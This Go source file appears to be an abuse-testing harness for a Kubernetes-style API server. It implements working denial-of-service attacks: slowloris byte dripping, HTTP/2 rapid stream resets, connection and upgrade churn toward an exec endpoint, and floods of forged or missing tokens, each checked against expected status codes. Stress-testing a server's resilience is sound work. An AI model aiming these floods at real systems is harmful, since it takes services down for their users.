package abuse

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Attacks with connections.
var connectionAttacks = []attack{{
	name: "Two hundred clients send headers and bodies byte by byte, and a thousand connections send nothing",
	run: func(ctx context.Context, a *attacker) error {
		together(ctx,
			func(ctx context.Context) { a.connect(ctx, 1000, func(net io.ReadWriter) {}) },
			func(ctx context.Context) {
				a.connect(ctx, 100, func(c io.ReadWriter) {
					drip(ctx, c, fmt.Sprintf("GET %s HTTP/1.1\r\n", a.path(configMapPath)), "X-A: b\r\n")
				})
			},
			func(ctx context.Context) {
				a.connect(ctx, 100, func(c io.ReadWriter) {
					drip(ctx, c, fmt.Sprintf("POST %s HTTP/1.1\r\nHost: kcp\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{", a.path(configMapPath), a.Token), " ")
				})
			},
			a.gets(1, func(int) string { return configMapPath }))
		return nil
	},
	codes: []int{http.StatusOK, http.StatusTooManyRequests},
}, {
	name: "Streams of HTTP/2 are opened and reset at once",
	run: func(ctx context.Context, a *attacker) error {
		var wait sync.WaitGroup
		for range 4 {
			wait.Go(func() {
				for ctx.Err() == nil {
					_ = a.streams(ctx, 5000, func(f *http2.Framer, stream uint32) error { return f.WriteRSTStream(stream, http2.ErrCodeCancel) })
				}
			})
		}
		wait.Go(func() { a.gets(1, func(int) string { return configMapPath })(ctx) })
		wait.Wait()
		return nil
	},
	codes: []int{http.StatusOK, http.StatusTooManyRequests},
}, {
	name: "Connections are opened and closed, each with a handshake and one upgrade request to a path that does not exist",
	run: func(ctx context.Context, a *attacker) error {
		protocols := []string{"websocket", "SPDY/3.1", "h2c"}
		a.flood(ctx, 4, unbounded, func(ctx context.Context, c *client, i int) {
			fresh := &client{url: c.url, token: c.token, answered: c.answered, http: &http.Client{Transport: &http.Transport{TLSClientConfig: a.Target.tls("http/1.1"), DisableKeepAlives: true}}}
			_, _, _ = fresh.send(ctx, http.MethodGet, "/api/v1/namespaces/default/pods/one/exec?command=sh", "", http.Header{
				"Connection": {"Upgrade"}, "Upgrade": {protocols[i%len(protocols)]}, "Sec-Websocket-Protocol": {"v5.channel.k8s.io"},
				"Sec-Websocket-Version": {"13"}, "Sec-Websocket-Key": {"AAAAAAAAAAAAAAAAAAAAAA=="},
			})
		})
		return nil
	},
	// A front proxy refuses unusual protocols itself, with 400.
	codes: []int{http.StatusNotFound, http.StatusTooManyRequests, http.StatusMethodNotAllowed, http.StatusBadRequest},
}, {
	name: "Unauthenticated clients send invalid tokens, no tokens, and requests for paths that do not exist",
	run: func(ctx context.Context, a *attacker) error {
		together(ctx,
			func(ctx context.Context) {
				a.flood(ctx, 8, unbounded, func(ctx context.Context, c *client, i int) {
					c.token = fmt.Sprintf("wrong-%d", i)
					_, _, _ = c.get(ctx, configMapPath)
				})
			},
			func(ctx context.Context) {
				a.flood(ctx, 8, unbounded, func(ctx context.Context, c *client, i int) {
					// This looks like the token of a service account.
					c.token = "eyJhbGciOiJSUzI1NiJ9." + strings.Repeat("e30", i%1000) + ".AAAA"
					_, _, _ = c.get(ctx, configMapPath)
				})
			},
			func(ctx context.Context) {
				a.flood(ctx, 8, unbounded, func(ctx context.Context, c *client, i int) {
					c.token, c.url = "", fmt.Sprintf("%s/clusters/root:%s-%d", a.Target.URL, "nothing", i)
					_, _, _ = c.send(ctx, http.MethodDelete, "/apis/example.com/v1/things", "", nil)
				})
			},
			func(ctx context.Context) {
				a.flood(ctx, 8, unbounded, func(ctx context.Context, c *client, i int) {
					methods := []string{http.MethodTrace, http.MethodPut, http.MethodOptions, "QUERY", http.MethodPost}
					_, _, _ = c.send(ctx, methods[i%len(methods)], fmt.Sprintf("/apis/group-%d.example.com/v1/namespaces/%d/things/a/b/c", i, i), "{}", nil)
				})
			})
		return nil
	},
	codes: []int{http.StatusUnauthorized, http.StatusForbidden, http.StatusNotFound, http.StatusMethodNotAllowed, http.StatusTooManyRequests, http.StatusBadRequest, http.StatusServiceUnavailable},
}}

// path returns the path of the attacker's cluster on the server.
func (a *attacker) path(suffix string) string {
	return strings.TrimPrefix(a.url, a.Target.URL) + suffix
}

// address returns the address of the server.
func (a *attacker) address() string { return strings.TrimPrefix(a.Target.URL, "https://") }

// connect opens HTTP/1.1 connections, each of which f uses. They stay open afterwards.
func (a *attacker) connect(ctx context.Context, n int, f func(io.ReadWriter)) {
	var wait sync.WaitGroup
	for range n {
		if ctx.Err() != nil {
			break
		}
		connection, err := (&tls.Dialer{Config: a.Target.tls("http/1.1")}).DialContext(ctx, "tcp", a.address())
		if err != nil {
			continue
		}
		wait.Go(func() { f(connection) })
	}
	wait.Wait()
}

// drip sends a beginning, and then a part repeatedly, until the server closes the connection.
func drip(ctx context.Context, c io.Writer, beginning, part string) {
	_, err := io.WriteString(c, beginning)
	for err == nil && ctx.Err() == nil {
		waitFor(ctx, time.Second)
		_, err = io.WriteString(c, part)
	}
}

// streams opens an HTTP/2 connection with a flow-control window of zero, sends requests on it, and calls f for each stream. It waits
// until the context or the connection ends.
func (a *attacker) streams(ctx context.Context, n int, f func(*http2.Framer, uint32) error) error {
	connection, err := (&tls.Dialer{Config: a.Target.tls("h2")}).DialContext(ctx, "tcp", a.address())
	if err != nil {
		return err
	}
	if _, err := io.WriteString(connection, http2.ClientPreface); err != nil {
		return err
	}
	out := bufio.NewWriter(connection)
	framer := http2.NewFramer(out, connection)
	if err := framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
		return err
	}
	var block bytes.Buffer
	headers := hpack.NewEncoder(&block)
	ended := make(chan error, 1)
	go func() {
		_, err := io.Copy(io.Discard, connection)
		ended <- err
	}()
	for i := range n {
		block.Reset()
		for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", a.address()}, {":path", a.path(configMapPath)}, {"authorization", "Bearer " + a.Token}} {
			if err := headers.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}); err != nil {
				return err
			}
		}
		stream := uint32(2*i + 1)
		if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true}); err != nil {
			return err
		}
		if err := f(framer, stream); err != nil {
			return err
		}
		if i%10 == 9 {
			if err := out.Flush(); err != nil {
				return err
			}
		}
		if ctx.Err() != nil {
			return ctx.Err()
		}
	}
	if err := out.Flush(); err != nil {
		return err
	}
	select {
	case err := <-ended:
		return err
	case <-ctx.Done():
		return ctx.Err()
	}
}
